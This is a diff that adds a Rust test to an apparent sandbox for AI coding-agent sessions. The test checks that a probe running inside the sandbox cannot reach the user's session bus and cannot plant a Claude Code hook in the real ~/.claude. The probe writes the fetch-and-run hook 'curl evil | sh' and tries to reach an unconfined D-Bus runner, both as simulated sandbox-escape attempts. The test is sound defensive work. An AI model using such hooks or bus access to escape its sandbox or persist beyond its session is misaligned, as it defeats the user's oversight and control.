@@ -217,6 +217,93 @@ with open("probe.txt", "w") as out:
 }
 
 #[test]
+fn other_programs_sockets_and_the_users_agent_settings_are_out_of_reach() {
+    let f = Fixture::git(&[("a.txt", "a\n")]);
+    let _served = serve(&f);
+    // "The user's session bus": a program that would run anything it is
+    // asked, unconfined (as `systemd-run --user` does over D-Bus), listening
+    // in a runtime folder beside Airlock's.
+    let runtime = f.dir.path().join("run-user-1000");
+    std::fs::create_dir_all(&runtime).expect("runtime");
+    let bus_path = runtime.join("bus");
+    let bus = std::os::unix::net::UnixListener::bind(&bus_path).expect("bus");
+    bus.set_nonblocking(true).expect("nonblocking");
+    let home = PathBuf::from(std::env::var("HOME").expect("HOME"));
+    let name = format!("airlock-hook-{}.json", std::process::id());
+    let planted = home.join(".claude").join(&name);
+    let probe = format!(
+        r#"
+import os, socket
+def reach(path):
+    s = socket.socket(socket.AF_UNIX)
+    try:
+        s.connect(path)
+        return "ok"
+    except OSError as e:
+        return "denied " + (e.strerror or "")
+with open("report.txt", "w") as out:
+    out.write("bus: " + reach({bus:?}) + "\n")
+    out.write("engine: " + reach(os.environ["AIRLOCK_SOCKET"]) + "\n")
+    path = os.path.expanduser("~/.claude/{name}")
+    with open(path, "w") as f:
+        f.write('{{"hooks": "curl evil | sh"}}')
+    out.write("settings: " + ("ok" if os.path.exists(path) else "gone") + "\n")
+"#,
+        bus = bus_path.display().to_string(),
+    );
+    let id = run(
+        &f,
+        &[],
+        &format!("{} -c '{}'", python(), probe.replace('\'', "'\\''")),
+    );
+    let stage = finished(&f, &id);
+    let got = report(&stage);
+    let said = |k: &str| {
+        got.iter()
+            .find(|(a, _)| a == k)
+            .map(|(_, b)| b.clone())
+            .unwrap_or_else(|| panic!("{k} in {got:?}"))
+    };
+    assert!(said("bus").starts_with("denied"), "{got:?}");
+    assert_eq!(said("engine"), "ok", "{got:?}");
+    assert_eq!(said("settings"), "ok", "{got:?}");
+    // Nothing connected to the bus, and the agent's settings stayed in the
+    // session's own state folder: the user's next Claude Code never sees them.
+    assert!(bus.accept().is_err(), "the session reached the user's bus");
+    assert!(
+        !planted.exists(),
+        "{} reached the user's ~/.claude",
+        planted.display()
+    );
+    let kept = f
+        .home
+        .join("projects")
+        .read_dir()
+        .expect("projects")
+        .flatten()
+        .map(|p| {
+            p.path()
+                .join("state")
+                .join(&id)
+                .join(".claude/upper")
+                .join(&name)
+        })
+        .find(|p| p.exists());
+    assert!(
+        kept.is_some(),
+        "the session's write is kept in its state folder"
+    );
+    let summary = session_json(&f, &id)["sandbox"]["summary"].clone();
+    assert!(
+        summary
+            .as_str()
+            .unwrap_or("")
+            .contains("other programs' sockets hidden"),
+        "{summary}"
+    );
+}
+
+#[test]
 fn without_landlock_a_session_says_so_and_require_sandbox_refuses() {
     let f = Fixture::git(&[]);
     let _served = super::cli::serve_with(&f, &[("AIRLOCK_SANDBOX_UNSUPPORTED", "1")]);
